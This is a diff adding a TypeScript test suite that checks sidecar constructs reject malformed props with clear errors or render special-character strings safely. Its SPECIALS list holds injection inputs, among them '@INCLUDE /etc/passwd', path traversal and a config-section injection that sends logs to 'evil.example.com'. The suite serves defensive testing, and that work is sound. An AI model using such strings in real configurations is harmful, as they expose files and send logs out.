@@ -1,0 +1,431 @@
+/**
+ * The standing bad-input guard (issue 10, section 4). Every public prop of the built-in
+ * sidecars gets values of the wrong runtime type, boundary numbers and strings carrying each
+ * target format's special characters, composed on Kubernetes, ECS Fargate and ACI. Each case
+ * must end in a catalogued SidecarError whose message names the construct path and the prop,
+ * or in an output that passes the validators of test/validate and, for strings, parses back
+ * (YAML, JSON, HCL via hcl2json, Fluent Bit classic via its reader model) to exactly the value
+ * given. Cases still known to fail are `test.todo` (KNOWN in known.ts), never failing tests.
+ */
+import { appendFileSync } from 'fs';
+import * as fc from 'fast-check';
+import { attempt, describeError, KINDS, Outcome, parsesBack, Platform, PLATFORMS } from './harness';
+import { KNOWN } from './known';
+import { ErrorCode } from '../../src/core/errors';
+
+type PropKind = 'string' | 'number' | 'boolean' | 'enum' | 'array' | 'map' | 'object';
+
+/** Top-level props of each sidecar's props interface and their declared kind. */
+const PROPS: { [sidecar: string]: { [prop: string]: PropKind } } = {
+  Sidecar: {
+    name: 'string',
+    image: 'string',
+    role: 'enum',
+    appWaitsFor: 'enum',
+    command: 'array',
+    args: 'array',
+    workingDir: 'string',
+    env: 'map',
+    secretEnv: 'map',
+    ports: 'array',
+    startupProbe: 'object',
+    readinessProbe: 'object',
+    livenessProbe: 'object',
+    healthCommand: 'array',
+    waitCommand: 'array',
+    resources: 'object',
+    security: 'object',
+    volumes: 'array',
+    configFiles: 'array',
+    appEnv: 'map',
+    appContainers: 'array',
+    dependsOn: 'array',
+    drainCommand: 'array',
+    terminationGracePeriodSeconds: 'number',
+    shareProcessNamespace: 'boolean',
+    essential: 'boolean',
+    interceptTraffic: 'object',
+  },
+  VaultAgentSidecar: {
+    address: 'string',
+    auth: 'array',
+    secrets: 'array',
+    caCertificatePem: 'string',
+    tlsSkipVerify: 'boolean',
+    namespace: 'string',
+    prePopulate: 'boolean',
+    prePopulateOnly: 'boolean',
+    sinkWrapTtlSeconds: 'number',
+    cache: 'boolean',
+    cachePort: 'number',
+    secretsPath: 'string',
+    exitOnRetryFailure: 'boolean',
+    image: 'string',
+    uid: 'number',
+    gid: 'number',
+    resources: 'object',
+    name: 'string',
+  },
+  OpaSidecar: {
+    name: 'string',
+    image: 'string',
+    port: 'number',
+    exposeApi: 'boolean',
+    diagnosticPort: 'number',
+    uid: 'number',
+    logLevel: 'enum',
+    resources: 'object',
+    services: 'array',
+    bundles: 'array',
+    verificationKeys: 'array',
+    decisionLogs: 'object',
+    status: 'object',
+    labels: 'map',
+    policies: 'map',
+    appEnvName: 'string',
+    appContainers: 'array',
+    appWaitsFor: 'enum',
+    envoyPlugin: 'boolean',
+    envoyPluginPath: 'string',
+    extAuthzPort: 'number',
+    extAuthzTimeoutSeconds: 'number',
+    extAuthzFailureModeAllow: 'boolean',
+  },
+  FluentBitSidecar: {
+    outputs: 'array',
+    filters: 'array',
+    logDirectory: 'string',
+    logFiles: 'string',
+    memBufLimitMebibytes: 'number',
+    skipLongLines: 'boolean',
+    flushSeconds: 'number',
+    logLevel: 'enum',
+    configFormat: 'enum',
+    createRbac: 'boolean',
+    httpPort: 'number',
+    resources: 'object',
+    image: 'string',
+    name: 'string',
+    uid: 'number',
+  },
+  OtelCollectorSidecar: {
+    name: 'string',
+    distribution: 'enum',
+    image: 'string',
+    uid: 'number',
+    otlpExporters: 'array',
+    prometheusExporter: 'object',
+    debugExporter: 'object',
+    awsXrayExporter: 'object',
+    awsEmfExporter: 'object',
+    prometheusScrapeConfigs: 'array',
+    signals: 'array',
+    serviceName: 'string',
+    resourceAttributes: 'map',
+    podNameAttribute: 'boolean',
+    memoryLimiter: 'object',
+    batch: 'object',
+    appEnv: 'boolean',
+    appProtocol: 'enum',
+    appContainers: 'array',
+    appWaitsFor: 'enum',
+    healthCommand: 'array',
+    otlpGrpcPort: 'number',
+    otlpHttpPort: 'number',
+    healthCheckPort: 'number',
+    telemetryPort: 'number',
+    resources: 'object',
+  },
+  DaprSidecar: {
+    appId: 'string',
+    mode: 'enum',
+    appPort: 'number',
+    appProtocol: 'enum',
+    name: 'string',
+    image: 'string',
+    uid: 'number',
+    httpPort: 'number',
+    grpcPort: 'number',
+    internalGrpcPort: 'number',
+    publicPort: 'number',
+    metricsPort: 'number',
+    enableMetrics: 'boolean',
+    exposeApi: 'boolean',
+    apiToken: 'object',
+    logLevel: 'enum',
+    logAsJson: 'boolean',
+    maxBodySize: 'string',
+    gracefulShutdownSeconds: 'number',
+    placementHostAddress: 'string',
+    schedulerHostAddress: 'string',
+    controlPlane: 'object',
+    components: 'array',
+    configuration: 'object',
+    appWaitsFor: 'enum',
+    healthCommand: 'array',
+    resources: 'object',
+    appContainers: 'array',
+  },
+  XRayDaemonSidecar: {
+    region: 'string',
+    name: 'string',
+    image: 'string',
+    uid: 'number',
+    port: 'number',
+    bufferMemoryMegabytes: 'number',
+    localMode: 'boolean',
+    resourceArn: 'string',
+    roleArn: 'string',
+    logLevel: 'enum',
+    appEnv: 'boolean',
+    appContainers: 'array',
+    resources: 'object',
+  },
+  // Owned by another change (src/sidecars/envoy): its failing cases are todo rows in known.ts.
+  EnvoySidecar: {
+    name: 'string',
+    image: 'string',
+    uid: 'number',
+    adminPort: 'number',
+    outboundPort: 'number',
+    inboundPort: 'number',
+    readinessPort: 'number',
+    prometheusPort: 'number',
+    probePort: 'number',
+    redirect: 'boolean',
+    ipv6: 'boolean',
+    appPorts: 'array',
+    excludeInboundPorts: 'array',
+    excludeOutboundPorts: 'array',
+    excludeOutboundCidrs: 'array',
+    includeOutboundPorts: 'array',
+    includeOutboundCidrs: 'array',
+    redirectImage: 'string',
+    healthCheckPaths: 'array',
+    inboundProtocol: 'enum',
+    connectTimeoutSeconds: 'number',
+    requestTimeoutSeconds: 'number',
+    accessLog: 'boolean',
+    logLevel: 'enum',
+    clusters: 'array',
+    routes: 'array',
+    routedOutboundPorts: 'array',
+    xds: 'object',
+    mtls: 'object',
+    unixSockets: 'object',
+    drainSeconds: 'number',
+    terminationGracePeriodSeconds: 'number',
+    resources: 'object',
+    nodeId: 'string',
+    serviceCluster: 'string',
+    healthCommand: 'array',
+  },
+};
+
+/** Props that have no default. */
+const REQUIRED: { [sidecar: string]: string[] } = {
+  Sidecar: ['image'], VaultAgentSidecar: ['address', 'auth', 'secrets'], FluentBitSidecar: ['outputs'], DaprSidecar: ['appId'], XRayDaemonSidecar: ['region'],
+};
+
+const HUGE = 'a'.repeat(100_000);
+/** Values of the wrong runtime type (and boundaries) for a prop of each declared kind. */
+const WRONG: { [k in PropKind]: Array<[string, unknown]> } = {
+  string: [['null', null], ['number', 42], ['object', {}], ['array', ['x']], ['boolean', true], ['NaN', NaN], ['empty', ''], ['huge', HUGE]],
+  number: [['null', null], ['string', '80'], ['object', {}], ['array', [1]], ['NaN', NaN], ['Infinity', Infinity], ['-Infinity', -Infinity], ['-1', -1], ['0', 0], ['1.5', 1.5], ['1e21', 1e21], ['2^31', 2 ** 31]],
+  boolean: [['null', null], ['"false"', 'false'], ['"no"', 'no'], ['0', 0], ['1', 1], ['object', {}]],
+  enum: [['null', null], ['"BOGUS"', 'BOGUS'], ['number', 42], ['object', {}], ['array', []], ['huge', HUGE]],
+  array: [['null', null], ['" "', ' '], ['object', {}], ['number', 1e21], ['[null]', [null]], ['[42]', [42]], ['[undefined]', [undefined]]],
+  map: [['null', null], ['" "', ' '], ['array', ['x']], ['number', 42], ['{k:null}', { K: null }], ['{k:42}', { K: 42 }], ['{k:{}}', { K: {} }]],
+  object: [['null', null], ['" "', ' '], ['array', []], ['number', 42], ['{x:NaN}', { x: NaN }]],
+};
+
+/** Strings that carry each target format's special characters. */
+const SPECIALS: Array<[string, string]> = [
+  ['newline', 'a\nb'], ['quote', 'a"b'], ['single quote', "a'b"], ['${', 'a${b}'], ['%{', 'a%{b}'], ['#', 'a # b'], ['colon', 'a: b'],
+  ['[', '[OUTPUT]'], ['@INCLUDE', '@INCLUDE /etc/passwd'], ['..', '../../etc/passwd'], ['backslash', 'a\\b'],
+  ['yaml 1.1 octal', '0o17'], ['yaml bool', 'yes'], ['leading space', ' a'], ['section injection', 'x\n[OUTPUT]\n    name http\n    host evil.example.com'],
+];
+
+/** String-valued props per sidecar whose value ends up in a generated file: how to set it, and the shapes it may parse back as. */
+const STRING_SITES: { [sidecar: string]: Array<[string, (s: string) => any, (s: string) => string[]]> } = {
+  Sidecar: [
+    ['env.FOO', s => ({ env: { FOO: s } }), s => [s]],
+    ['args[0]', s => ({ args: [s] }), s => [s]],
+    ['appEnv.FOO', s => ({ appEnv: { FOO: s } }), s => [s]],
+    ['configFiles[0].content', s => ({ configFiles: [{ path: '/etc/agent/agent.txt', content: s }] }), s => [s]],
+  ],
+  VaultAgentSidecar: [
+    ['namespace', s => ({ namespace: s }), s => [s]],
+    ['secrets[0].path', s => ({ secrets: [{ path: `secret/data/${s}`, file: 'db.json', template: `{{ with secret ${JSON.stringify(`secret/data/${s}`)} }}{{ .Data.data | toJSON }}{{ end }}` }] }),
+      s => [`{{ with secret ${JSON.stringify(`secret/data/${s}`)} }}{{ .Data.data | toJSON }}{{ end }}`]],
+  ],
+  OpaSidecar: [['labels.app', s => ({ labels: { app: s } }), s => [s]]],
+  FluentBitSidecar: [['logFiles', s => ({ logFiles: `${s}.log` }), s => [`/var/log/app/${s}.log`]]],
+  OtelCollectorSidecar: [
+    ['serviceName', s => ({ serviceName: s }), s => [s]],
+    ['resourceAttributes.team', s => ({ resourceAttributes: { team: s } }), s => [s]],
+  ],
+  DaprSidecar: [['placementHostAddress', s => ({ placementHostAddress: s }), s => [s]]],
+  XRayDaemonSidecar: [['region', s => ({ region: s }), s => [s]], ['roleArn', s => ({ roleArn: s }), s => [s]]],
+};
+
+const counts = { cases: 0, clearErrors: 0, parsedBack: 0, validOutputs: 0, todo: 0 };
+const SURVEY = process.env.BAD_INPUT_SURVEY;
+
+/** What a case must end in; returns a failure description, or undefined. */
+function judge(o: Outcome, prop: string, want?: string[]): string | undefined {
+  if (o.kind === 'crash') { return `crash: ${describeError(o.error)}`; }
+  if (o.kind === 'error') {
+    const m = o.error.message;
+    if (!m.includes(`${o.path}:`) && !m.includes(`${o.path} `)) { return `error without the construct path ${o.path}: ${m.slice(0, 300)}`; }
+    if (!m.includes(prop)) { return `error without the prop ${prop}: ${m.slice(0, 300)}`; }
+    counts.clearErrors++;
+    return undefined;
+  }
+  if (want && !parsesBack(o.output, want)) { return `output does not parse back to ${JSON.stringify(want[0]).slice(0, 80)}`; }
+  if (want) { counts.parsedBack++; } else { counts.validOutputs++; }
+  return undefined;
+}
+
+function caseTest(key: string, run: () => Promise<string | undefined>) {
+  if (KNOWN.has(key) && !SURVEY) { counts.todo++; test.todo(`${key} (known failure)`); return; }
+  test(key, async () => {
+    counts.cases++;
+    const failure = await run();
+    if (SURVEY) { if (failure) { appendFileSync(SURVEY, `${JSON.stringify(key)}\t${failure.replace(/\n/g, '\\n')}\n`); } return; }
+    expect(failure).toBeUndefined();
+  });
+}
+
+describe('the base props of every sidecar compose on every platform', () => {
+  for (const [sidecar, kind] of Object.entries(KINDS)) {
+    for (const platform of PLATFORMS) {
+      test(`${sidecar} on ${platform}`, async () => {
+        const o = await attempt(kind, kind.base, platform);
+        expect(o.kind === 'output' ? 'output' : describeError((o as any).error)).toBe('output');
+      });
+    }
+  }
+});
+
+/**
+ * Fixed crashes: each row crashed with a TypeError from inside the library (or was silently
+ * accepted) before the runtime type checks, and is now a catalogued error naming the prop.
+ */
+const FIXED: Array<[string, string, any, Platform, ErrorCode, string]> = [
+  ['Sidecar', 'ports: 1e21', { ports: 1e21 }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: ports 1e+21 (number) is not an array of objects'],
+  ['Sidecar', 'ports: [null]', { ports: [null] }, 'ecs', ErrorCode.INVALID_TYPE, 'Shop/sc: ports[0] null (null) is not an object'],
+  ['Sidecar', 'appContainers: " "', { appContainers: ' ' }, 'aci', ErrorCode.INVALID_TYPE, 'sc: appContainers " " (string) is not an array of strings'],
+  ['Sidecar', 'image: 0', { image: 0 }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: image 0 (number) is not a string'],
+  ['Sidecar', 'image: undefined', { image: undefined }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: image undefined (undefined) is not a string'],
+  ['Sidecar', 'dependsOn: {}', { dependsOn: {} }, 'ecs', ErrorCode.INVALID_TYPE, 'Shop/sc: dependsOn {} (object) is not an array of objects'],
+  ['Sidecar', 'configFiles: [undefined]', { configFiles: [undefined] }, 'aci', ErrorCode.INVALID_TYPE, 'sc: configFiles[0] undefined (undefined) is not an object'],
+  ['Sidecar', 'volumes: 1e21', { volumes: 1e21 }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: volumes 1e+21 (number) is not an array of objects'],
+  ['Sidecar', 'workingDir: 42', { workingDir: 42 }, 'ecs', ErrorCode.INVALID_TYPE, 'Shop/sc: workingDir 42 (number) is not a string'],
+  ['Sidecar', 'shareProcessNamespace: "no"', { shareProcessNamespace: 'no' }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: shareProcessNamespace "no" (string) is not a boolean'],
+  ['Sidecar', 'role: "MIDDLE"', { role: 'MIDDLE' }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: role "MIDDLE" (string) is not one of'],
+  ['Sidecar', 'terminationGracePeriodSeconds: NaN (shown as NaN, not null)', { terminationGracePeriodSeconds: NaN }, 'aci', ErrorCode.INVALID_TYPE, 'sc: terminationGracePeriodSeconds NaN (number) is not an integer >= 0'],
+  ['Sidecar', 'secretEnv: {K: {}}', { secretEnv: { K: {} } }, 'ecs', ErrorCode.INVALID_TYPE, 'Shop/sc: secretEnv.K.secretName undefined'],
+  ['Sidecar', 'appEnv: {K: 42}', { appEnv: { K: 42 } }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: appEnv.K 42 (number) is not a string'],
+  ['Sidecar', 'interceptTraffic: {}', { interceptTraffic: {} }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: interceptTraffic.inboundPort undefined'],
+  ['VaultAgentSidecar', 'secrets: [null]', { secrets: [null] }, 'aci', ErrorCode.INVALID_TYPE, 'sc: secrets[0] null (null) is not an object'],
+  ['Sidecar', 'security.allowRootUser: "false" (rendered runAsUser 0)', { security: { uid: 0, allowRootUser: 'false' } }, 'k8s', ErrorCode.INVALID_TYPE,
+    'web/sc: security.allowRootUser "false" (string) is not a boolean'],
+  ['Sidecar', 'security.seccompProfile: "NONE"', { security: { seccompProfile: 'NONE' } }, 'ecs', ErrorCode.INVALID_TYPE, 'Shop/sc: security.seccompProfile "NONE" (string) is not one of'],
+  ['VaultAgentSidecar', 'secrets[0].path: 42', { secrets: [{ path: 42, file: 'db.json' }] }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: secrets[0].path 42 (number) is not a string'],
+  ['VaultAgentSidecar', 'secrets[0].command: "reload"', { secrets: [{ path: 'secret/data/x', file: 'x', command: 'reload' }] }, 'aci', ErrorCode.INVALID_TYPE,
+    'sc: secrets[0].command "reload" (string) is not an array of strings'],
+  ['VaultAgentSidecar', 'image: null', { image: null }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: image null (null) is not a string'],
+  ['VaultAgentSidecar', 'cachePort: 0', { cachePort: 0 }, 'k8s', ErrorCode.INVALID_PORT, 'web/sc: cachePort 0 is not a port number'],
+  ['OpaSidecar', 'services: 42', { services: 42 }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: services 42 (number) is not an array of objects'],
+  ['OpaSidecar', 'verificationKeys: [null]', { verificationKeys: [null] }, 'ecs', ErrorCode.INVALID_TYPE, 'Shop/sc: verificationKeys[0] null'],
+  ['OpaSidecar', 'logLevel: "verbose"', { logLevel: 'verbose' }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: logLevel "verbose" (string) is not one of'],
+  ['OpaSidecar', 'envoyPlugin: 1', { envoyPlugin: 1 }, 'aci', ErrorCode.INVALID_TYPE, 'sc: envoyPlugin 1 (number) is not a boolean'],
+  ['FluentBitSidecar', 'logDirectory: 42', { logDirectory: 42 }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: logDirectory 42 (number) is not a string'],
+  ['FluentBitSidecar', 'filters: {}', { filters: {} }, 'ecs', ErrorCode.INVALID_TYPE, 'Shop/sc: filters {} (object) is not an array of objects'],
+  ['FluentBitSidecar', 'configFormat: "TOML"', { configFormat: 'TOML' }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: configFormat "TOML" (string) is not one of'],
+  ['FluentBitSidecar', 'httpPort: 0 (named as the prop, not ports[0].port)', { httpPort: 0 }, 'aci', ErrorCode.INVALID_PORT, 'sc: httpPort 0 is not a port number'],
+  ['FluentBitSidecar', 'memBufLimitMebibytes: 1e21', { memBufLimitMebibytes: 1e21 }, 'ecs', ErrorCode.INVALID_NUMBER, 'Shop/sc: memBufLimitMebibytes 1e+21 is not a whole number from 1 to'],
+  ['OtelCollectorSidecar', 'otlpExporters: [null]', { otlpExporters: [null] }, 'aci', ErrorCode.INVALID_TYPE, 'sc: otlpExporters[0] null (null) is not an object'],
+  ['OtelCollectorSidecar', 'signals: ["logs!"]', { signals: ['logs!'] }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: signals[0] "logs!" (string) is not one of'],
+  ['OtelCollectorSidecar', 'podNameAttribute: "no"', { podNameAttribute: 'no' }, 'aci', ErrorCode.INVALID_TYPE, 'sc: podNameAttribute "no" (string) is not a boolean'],
+  ['DaprSidecar', 'configuration: null', { configuration: null }, 'aci', ErrorCode.INVALID_TYPE, 'sc: configuration null (null) is not an object'],
+  ['DaprSidecar', 'components: " "', { components: ' ' }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: components " " (string) is not an array of objects'],
+  ['DaprSidecar', 'mode: "HYBRID"', { mode: 'HYBRID' }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: mode "HYBRID" (string) is not one of'],
+  ['DaprSidecar', 'enableMetrics: "false"', { enableMetrics: 'false' }, 'ecs', ErrorCode.INVALID_TYPE, 'Shop/sc: enableMetrics "false" (string) is not a boolean'],
+  ['XRayDaemonSidecar', 'image: true', { image: true }, 'aci', ErrorCode.INVALID_TYPE, 'sc: image true (boolean) is not a string'],
+  ['XRayDaemonSidecar', 'appContainers: 42', { appContainers: 42 }, 'ecs', ErrorCode.INVALID_TYPE, 'Shop/sc: appContainers 42 (number) is not an array of strings'],
+  ['XRayDaemonSidecar', 'logLevel: "verbose"', { logLevel: 'verbose' }, 'k8s', ErrorCode.INVALID_TYPE, 'web/sc: logLevel "verbose" (string) is not one of'],
+];
+
+describe('fixed crashes (table)', () => {
+  test.each(FIXED)('%s %s', async (sidecar, _title, props, platform, code, part) => {
+    counts.cases++;
+    const o = await attempt(KINDS[sidecar], { ...KINDS[sidecar].base, ...props }, platform);
+    if (o.kind !== 'error') { throw new Error(`expected ${code}, got ${o.kind === 'crash' ? describeError(o.error) : 'an output'}`); }
+    expect(o.error.code).toBe(code);
+    expect(o.error.message).toContain(part);
+    counts.clearErrors++;
+  });
+});
+
+/** Known failures outside the files this suite's fixes own (listed in known.ts): kept as todo rows. */
+for (const key of KNOWN) { if (!SURVEY && key.startsWith('row: ')) { counts.todo++; test.todo(key); } }
+
+let rotation = 0;
+const nextPlatform = (): Platform => PLATFORMS[rotation++ % PLATFORMS.length];
+
+for (const [sidecar, props] of Object.entries(PROPS)) {
+  const kind = KINDS[sidecar];
+  describe(`${sidecar}: values of the wrong runtime type`, () => {
+    for (const [prop, pk] of Object.entries(props)) {
+      const values = [...WRONG[pk], ...(REQUIRED[sidecar]?.includes(prop) ? [['undefined', undefined] as [string, unknown]] : [])];
+      for (const [label, value] of values) {
+        const platform = nextPlatform();
+        caseTest(`${sidecar} ${platform} ${prop}=${label}`, async () => judge(await attempt(kind, { ...kind.base, [prop]: value }, platform), prop));
+      }
+    }
+  });
+
+  describe(`${sidecar}: strings with special characters`, () => {
+    for (const [site, set, shapes] of STRING_SITES[sidecar] ?? []) {
+      const prop = site.split(/[.[]/)[0];
+      for (const platform of PLATFORMS) {
+        for (const [label, s] of SPECIALS) {
+          caseTest(`${sidecar} ${platform} ${site}=${label}`, async () => judge(await attempt(kind, { ...kind.base, ...set(s) }, platform), prop, shapes(s)));
+        }
+      }
+    }
+  });
+
+  describe(`${sidecar}: numbers (property-based)`, () => {
+    const numeric = Object.entries(props).filter(([, pk]) => pk === 'number').map(([p]) => p);
+    if (numeric.length === 0) { return; }
+    const key = `${sidecar} numbers`;
+    if (KNOWN.has(key) && !SURVEY) { counts.todo++; test.todo(`${key} (known failure)`); return; }
+    test(key, async () => {
+      const arb = fc.record({
+        prop: fc.constantFrom(...numeric),
+        value: fc.oneof(
+          fc.integer({ min: -2, max: 70000 }), fc.double(),
+          fc.constantFrom(NaN, Infinity, -Infinity, -0, 1e21, 2 ** 31, 2 ** 53, 65535, 65536),
+        ),
+        platform: fc.constantFrom(...PLATFORMS),
+      });
+      await fc.assert(fc.asyncProperty(arb, async ({ prop, value, platform }) => {
+        // Fargate's stopTimeout limit is reported under an internal field name (known row).
+        fc.pre(!(sidecar === 'Sidecar' && platform === 'ecs' && prop === 'terminationGracePeriodSeconds' && Number.isInteger(value) && value > 120));
+        counts.cases++;
+        const failure = judge(await attempt(kind, { ...kind.base, [prop]: value }, platform), prop);
+        if (failure && SURVEY) { appendFileSync(SURVEY, `${JSON.stringify(`${key} ${platform} ${prop}=${value}`)}\t${failure}\n`); return; }
+        expect(failure).toBeUndefined();
+      }), { numRuns: 12, seed: 10 });
+    });
+  });
+}
+
+afterAll(() => {
+  // The closing note of issue 10 quotes these counts.
+  console.log(`bad-input guard: ${counts.cases} cases, ${counts.clearErrors} clear errors, ${counts.parsedBack} outputs parsed back, `
+    + `${counts.validOutputs} other valid outputs, ${counts.todo} known failures (test.todo)`);
+});
